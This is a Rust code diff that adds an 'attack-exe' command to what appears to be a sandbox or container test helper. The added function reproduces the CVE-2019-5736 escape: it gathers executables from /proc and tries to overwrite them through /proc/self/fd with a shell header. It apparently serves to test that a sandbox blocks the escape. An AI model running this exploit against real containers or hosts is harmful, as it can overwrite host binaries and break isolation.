@@ -26,6 +26,7 @@ pub fn main(words: &[String]) -> ExitCode {
             }
             Ok(memory.iter().step_by(4096).map(|b| i64::from(*b)).sum())
         }
+        ["attack-exe", seconds] => attack(seconds.parse().unwrap_or(1)),
         _ => {
             eprintln!("inside: unknown words {words:?}");
             return ExitCode::from(2);
@@ -41,6 +42,37 @@ pub fn main(words: &[String]) -> ExitCode {
             ExitCode::from(1)
         }
     }
+}
+
+/// Holds every executable seen in /proc that is not of this root, and tries to
+/// write to it once it does not run any more (the way of CVE-2019-5736).
+fn attack(seconds: u64) -> io::Result<i64> {
+    use std::io::Write;
+    use std::os::fd::AsRawFd;
+    let end = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
+    let mut held: Vec<std::fs::File> = Vec::new();
+    let mut written = 0;
+    println!("attacking");
+    while std::time::Instant::now() < end {
+        for entry in std::fs::read_dir("/proc")?.flatten() {
+            let exe = entry.path().join("exe");
+            if std::fs::read_link(&exe).is_ok_and(|target| !target.starts_with("/bin"))
+                && held.len() < 200
+            {
+                held.extend(std::fs::File::open(&exe));
+            }
+        }
+        for file in &held {
+            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+            if let Ok(mut opened) = std::fs::File::options().write(true).open(path) {
+                written += i64::from(opened.write_all(b"#!/bin/sh\n").is_ok());
+            }
+        }
+        if held.len() > 100 {
+            held.drain(..50);
+        }
+    }
+    Ok(written)
 }
 
 fn syscall(number: i64, all: [i64; 6]) -> io::Result<i64> {
